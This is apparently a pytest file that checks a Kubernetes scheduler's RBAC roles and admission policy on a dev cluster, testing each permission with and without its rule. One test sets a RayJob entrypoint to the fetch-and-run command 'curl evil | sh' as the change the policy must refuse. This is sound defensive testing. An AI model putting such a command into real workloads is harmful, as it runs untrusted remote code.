"""The ClusterRole and Role in deploy/k8s/base/rbac.yaml are minimal, under the real RBAC authorizer.

muster's own classes (``Watcher``, ``KubeApplier``, ``LeaseElector``) make their requests with the
token the API server issued to the ServiceAccount ``muster-cluster``. For every rule of the role, and
every permission that rule grants, the test names the operation of muster that needs it: with the
rule the operation goes through; with the rule removed (and ``kubectl auth can-i --as`` saying so),
the same operation is refused with 403. That the roles are enough is shown by a whole scenario
(``test_stack.py``).
"""

from __future__ import annotations

import asyncio
import itertools
from pathlib import Path
from typing import Any, Awaitable, Callable, Iterator

import pytest
import yaml

from kubernetes_asyncio.client.exceptions import ApiException

from shared.kernel.events import kube_effect
from shared.kubernetes import resources as r
from shared.kubernetes.kubeapi import KubeApplier, Refused, Watcher, checked, connect
from shared.kubernetes.lease import LeaseElector, LeaseForbidden
from shared.parts.devcluster import DevCluster
from tests.realcluster.conftest import DEPLOY, NAMESPACE, can_i, create, eventually, install, node, token_kubeconfig

RBAC = [d for d in yaml.safe_load_all((DEPLOY / "base" / "rbac.yaml").read_text()) if d]
ROLES = {(d["kind"], d["metadata"]["name"]): d for d in RBAC if d["kind"] in ("ClusterRole", "Role")}
RULES = [(kind, name, i) for (kind, name), role in ROLES.items() for i in range(len(role["rules"]))]

QUEUE = {"apiVersion": "scheduling.volcano.sh/v1beta1", "kind": "Queue", "metadata": {"name": "research"},
         "spec": {"weight": 1, "capability": {"cpu": "8", "memory": "16Gi"}}}
KAI_QUEUE = {"apiVersion": "scheduling.run.ai/v2", "kind": "Queue", "metadata": {"name": "kai-team"},
             "spec": {"resources": {r: {"quota": -1, "limit": -1, "overQuotaWeight": 1} for r in ("cpu", "gpu", "memory")}}}
TREE = {"apiVersion": "scheduling.sigs.k8s.io/v1beta1", "kind": "ElasticQuotaTree",
        "metadata": {"name": "elasticquotatree", "namespace": "kube-system"},
        "spec": {"root": {"name": "root", "max": {"cpu": "10"}, "min": {"cpu": "10"}}}}
POD_GROUP = {"apiVersion": "scheduling.volcano.sh/v1beta1", "kind": "PodGroup",
             "metadata": {"name": "ray-rc-pg", "namespace": "team-a"}, "spec": {"minMember": 1, "queue": "research"}}
RAY_CLUSTER = {"apiVersion": "ray.io/v1", "kind": "RayCluster", "metadata": {"name": "rc", "namespace": "team-a"},
               "spec": {"suspend": True, "headGroupSpec": {"rayStartParams": {}, "template": {"spec": {"containers": [
                   {"name": "ray-head", "image": "rayproject/ray:2.50.1"}]}}}}}
RAY_JOB = {"apiVersion": "ray.io/v1", "kind": "RayJob", "metadata": {"name": "rj", "namespace": "team-a"},
           "spec": {"suspend": True, "entrypoint": "true", "rayClusterSpec": RAY_CLUSTER["spec"] | {"suspend": False}}}


class Muster:
    """muster's cluster-link classes on the ServiceAccount's token, on a loop of this test's own."""

    def __init__(self, cluster: DevCluster, kubeconfig: Path) -> None:
        self.cluster, self.kubeconfig = cluster, kubeconfig
        self.loop = asyncio.new_event_loop()
        self.api = self.run(connect(kubeconfig=str(kubeconfig)))
        self.applier = KubeApplier(self.api, victim_wait=1.0, status_interval=0.0)
        self.watcher = Watcher(self.api, watch_timeout=1)
        self.pods = itertools.count()

    def run(self, coro: Awaitable[Any]) -> Any:
        return self.loop.run_until_complete(coro)

    def close(self) -> None:
        self.run(self.api.close())
        self.loop.close()

    def pod(self) -> str:
        """A fresh pod in team-a (a bind and an eviction each need one of their own)."""
        name = f"p{next(self.pods)}"
        create(self.cluster, {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "team-a"},
                              "spec": {"schedulerName": "muster", "containers": [{"name": "c", "image": "busybox"}]}})
        return name


async def _bind_with_claim(m: Muster) -> None:
    """Bind a fresh pod with a delayed claim of its own: the applier reads the claim and writes the node on
    it first (VolumeBinding's PreBind)."""
    claim = f"c{next(m.pods)}"
    create(m.cluster, {"apiVersion": "v1", "kind": "PersistentVolumeClaim",
                       "metadata": {"name": claim, "namespace": "team-a"},
                       "spec": {"accessModes": ["ReadWriteOnce"], "storageClassName": "wffc",
                                "resources": {"requests": {"storage": "1Gi"}}}})
    await _effect("bind", "Pod", "", node="n1", claims=(claim,))(m)


def _list(resource: r.Resource) -> Callable[[Muster], Awaitable[Any]]:
    async def op(m: Muster) -> None:
        async def sink(change: Any, obj: Any) -> None:
            return None
        await _served(m.watcher._relist(resource, {}, sink))
    return op


def _watch(resource: r.Resource) -> Callable[[Muster], Awaitable[Any]]:
    async def op(m: Muster) -> None:
        async def sink(change: Any, obj: Any) -> None:
            return None
        await _served(m.watcher._watch(resource, "", {}, sink))
    return op


async def _served(call: Awaitable[Any]) -> None:
    """A resource this cluster does not serve (a CRD not installed) is a 404 the watcher waits out; RBAC
    is asked before the server looks for the resource, so without the rule it is a 403 all the same."""
    try:
        await call
    except ApiException as exc:
        if exc.status != 404:
            raise


def _effect(op: str, kind: str, name: str, namespace: str = "team-a", **fields: Any) -> Callable[[Muster], Awaitable[Any]]:
    async def apply(m: Muster) -> None:
        target = name or m.pod()
        effect = kube_effect(op=op, kind=kind, namespace=namespace, name=target, **fields)
        await m.applier.apply(effect, f"rbac-{op}-{target}")
    return apply


def _get(resource: r.Resource, name: str) -> Callable[[Muster], Awaitable[Any]]:
    async def op(m: Muster) -> None:
        assert await m.watcher.get(resource, "team-a", name) is not None
    return op


async def _read_pod(m: Muster) -> None:
    await m.applier._read_pod("team-a", m.pod())


def _lease(verb: str) -> Callable[[Muster], Awaitable[Any]]:
    async def op(m: Muster) -> None:
        elector = LeaseElector(NAMESPACE, "muster-cluster", "rbac-test", lease_duration=3, renew_deadline=2,
                               retry_period=1)
        await elector.check(m.api)  # asks for get, create and update; then takes the Lease for real
        assert await elector.try_once(m.api), f"{verb}: the lease was not taken"
        await elector.release(m.api)
    return op


def _operation(group: str, resource: str, verb: str) -> tuple[str, Callable[[Muster], Awaitable[Any]]]:
    """The operation of muster that needs ``verb`` on ``group``/``resource``, and its name."""
    found = [x for x in (*r.WATCHED, r.EVENT, r.LEASE) if x.group == group and x.plural == resource.split("/")[0]]
    sub = resource.partition("/")[2]
    if verb == "list":
        return f"Watcher lists {resource}.{group}", _list(found[0]) if len(found) == 1 else _both(found, _list)
    if verb == "watch":
        return f"Watcher watches {resource}.{group}", _watch(found[0]) if len(found) == 1 else _both(found, _watch)
    table: dict[tuple[str, str, str], tuple[str, Callable[[Muster], Awaitable[Any]]]] = {
        ("", "pods", "get"): ("KubeApplier reads a pod (before an eviction)", _read_pod),
        ("", "pods/binding", "create"): ("KubeApplier binds a pod", _effect("bind", "Pod", "", node="n1")),
        ("", "pods/eviction", "create"): ("KubeApplier evicts a pod", _effect("evict", "Pod", "")),
        ("", "persistentvolumeclaims", "get"): ("KubeApplier reads a pod's delayed claim before binding it",
                                                _bind_with_claim),
        ("", "persistentvolumeclaims", "patch"): ("KubeApplier writes the node on a pod's delayed claim",
                                                  _bind_with_claim),
        ("ray.io", "rayclusters", "get"): ("Watcher reads a pod's RayCluster it has not seen", _get(r.RAY_CLUSTER, "rc")),
        ("ray.io", "rayjobs", "get"): ("Watcher reads a submitter pod's RayJob it has not seen", _get(r.RAY_JOB, "rj")),
        ("ray.io", "rayclusters", "patch"): ("KubeApplier suspends a RayCluster", _effect("suspend", "RayCluster", "rc")),
        ("ray.io", "rayjobs", "patch"): ("KubeApplier suspends a RayJob", _effect("suspend", "RayJob", "rj")),
        ("scheduling.volcano.sh", "queues", "patch"): (
            "KubeApplier annotates a Volcano queue", _effect("annotate", "Queue", "research", "",
                                                             annotations={"muster.dev/status": "rbac"})),
        ("scheduling.run.ai", "queues", "patch"): (
            "KubeApplier annotates a KAI queue", _effect("annotate", "Queue", "kai-team", "",
                                                         annotations={"muster.dev/status": "rbac"})),
        ("scheduling.sigs.k8s.io", "elasticquotatrees", "patch"): (
            "KubeApplier annotates an ElasticQuotaTree", _effect("annotate", "ElasticQuotaTree", "elasticquotatree",
                                                                 "kube-system", annotations={"muster.dev/status": "x"})),
        ("scheduling.volcano.sh", "queues/status", "patch"): (
            "KubeApplier writes a Volcano queue's status", _effect("status", "Queue", "research", "",
                                                                   api_version="scheduling.volcano.sh/v1beta1",
                                                                   status={"state": "Open", "running": 0, "allocated": {"cpu": "0"}})),
        ("scheduling.run.ai", "queues/status", "patch"): (
            "KubeApplier writes a KAI queue's status", _effect("status", "Queue", "kai-team", "",
                                                               api_version="scheduling.run.ai/v2",
                                                               status={"allocated": {"cpu": "0"}})),
        ("scheduling.sigs.k8s.io", "elasticquotatrees/status", "patch"): (
            "KubeApplier writes an ElasticQuotaTree's status",
            _effect("status", "ElasticQuotaTree", "elasticquotatree", "kube-system",
                    api_version="scheduling.sigs.k8s.io/v1beta1", status={"queues": {"root": {"used": {}}}})),
        ("scheduling.volcano.sh", "podgroups", "patch"): (
            "KubeApplier writes a Volcano PodGroup's status (Volcano's CRD has no status subresource)",
            _effect("status", "PodGroup", "ray-rc-pg", api_version="scheduling.volcano.sh/v1beta1",
                    status={"phase": "Pending"})),
        ("", "events", "create"): ("KubeApplier writes an Event", _effect("event", "RayCluster", "rc", reason="Test",
                                                                           message="rbac")),
    }
    if group == r.LEASE.group:
        return f"LeaseElector may {verb} the Lease and takes it", _lease(verb)
    assert not sub or (group, resource, verb) in table, f"no operation named for {verb} {resource}.{group}"
    return table[(group, resource, verb)]


def _both(found: list[r.Resource], each: Callable[[r.Resource], Callable[[Muster], Awaitable[Any]]]
          ) -> Callable[[Muster], Awaitable[Any]]:
    async def op(m: Muster) -> None:
        for resource in found:
            await each(resource)(m)
    return op


def forbidden(exc: BaseException) -> bool:
    return (isinstance(exc, Refused) and " 403 " in f" {exc} ") or getattr(exc, "status", None) == 403 \
        or isinstance(exc, LeaseForbidden)


@pytest.fixture(scope="module")
def muster(devcluster: DevCluster, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Muster]:
    devcluster.reset()
    install(devcluster)
    devcluster.kubectl("create", "namespace", "team-a")
    create(devcluster, node("n1"), QUEUE, KAI_QUEUE, TREE, POD_GROUP, RAY_CLUSTER, RAY_JOB)
    m = Muster(devcluster, token_kubeconfig(devcluster, tmp_path_factory.mktemp("rbac") / "muster.kubeconfig"))
    try:
        yield m
    finally:
        m.close()


def _without(cluster: DevCluster, kind: str, name: str, index: int | None) -> None:
    """Replace the role with its rules but ``index`` (all of them with None)."""
    role = ROLES[(kind, name)]
    rules = [rule for i, rule in enumerate(role["rules"]) if i != index]
    body = {**role, "rules": rules, "metadata": {**role["metadata"], **({"namespace": NAMESPACE} if kind == "Role" else {})}}
    cluster.kubectl("apply", "--server-side", "--force-conflicts", "-f", "-", input=yaml.safe_dump(body))


@pytest.mark.parametrize("kind,name,index", RULES, ids=[f"{n}[{i}]" for _, n, i in RULES])
def test_each_rule_is_needed_by_an_operation_muster_does(muster: Muster, kind: str, name: str, index: int) -> None:
    rule = ROLES[(kind, name)]["rules"][index]
    namespace = NAMESPACE if kind == "Role" else ""
    grants = [(g, res, v) for g in rule["apiGroups"] for res in rule["resources"] for v in rule["verbs"]]
    operations = {grant: _operation(*grant) for grant in grants}
    try:
        for (group, resource, verb), (what, op) in operations.items():
            muster.run(op(muster))  # with the rule: it goes through
        _without(muster.cluster, kind, name, index)
        for (group, resource, verb), (what, op) in operations.items():
            qualified = f"{resource}.{group}" if group else resource
            eventually(lambda: not can_i(muster.cluster, verb, resource, group, namespace),
                       f"RBAC to refuse {verb} {qualified}", timeout=10)
            with pytest.raises(Exception) as refused:
                muster.run(op(muster))
            assert forbidden(refused.value), f"{what}: without {verb} {qualified}: {refused.value!r}"
    finally:
        _without(muster.cluster, kind, name, None)


POLICY_REFUSES = "muster-cluster may"


def _patch(m: Muster, resource: r.Resource, name: str, body: dict[str, Any]) -> None:
    m.run(checked(m.applier._merge_patch(resource, "team-a", name, body)))


def test_the_admission_policy_holds_muster_cluster_to_what_it_writes_on_workloads(muster: Muster) -> None:
    """RBAC's patch on RayJobs and RayClusters cannot name fields; deploy/k8s/base/admission-policy.yaml does:
    muster-cluster's token changes spec.suspend and muster.dev/ annotations (what KubeApplier writes) and
    nothing else of a workload, while the cluster's other users are not affected."""
    for resource, name, other in ((r.RAY_JOB, "rj", {"entrypoint": "curl evil | sh"}),
                                  (r.RAY_CLUSTER, "rc", {"rayVersion": "9.9.9"})):
        def refused_entrypoint() -> bool:
            try:
                _patch(muster, resource, name, {"spec": other})
            except ApiException as exc:
                return exc.status == 422 and POLICY_REFUSES in str(exc.body)
            return False
        eventually(refused_entrypoint, f"the policy to refuse a {resource.kind}'s spec", timeout=30)
        kind = resource.kind
        muster.run(_effect("unsuspend", kind, name)(muster))  # what muster writes goes through
        muster.run(_effect("suspend", kind, name)(muster))
        muster.run(_effect("annotate", kind, name, annotations={"muster.dev/status": "Queued: policy test"})(muster))
        for body in ({"metadata": {"annotations": {"example.com/other": "x"}}}, {"metadata": {"labels": {"a": "b"}}},
                     {"metadata": {"finalizers": ["example.com/hold"]}}, {"spec": other}):
            with pytest.raises(ApiException) as refused:
                _patch(muster, resource, name, body)
            assert refused.value.status == 422 and POLICY_REFUSES in str(refused.value.body), (body, refused.value)
        muster.cluster.kubectl("annotate", resource.plural + "." + resource.group, name, "-n", "team-a",
                               "example.com/owner=team-a", "--overwrite")  # the admin is not held
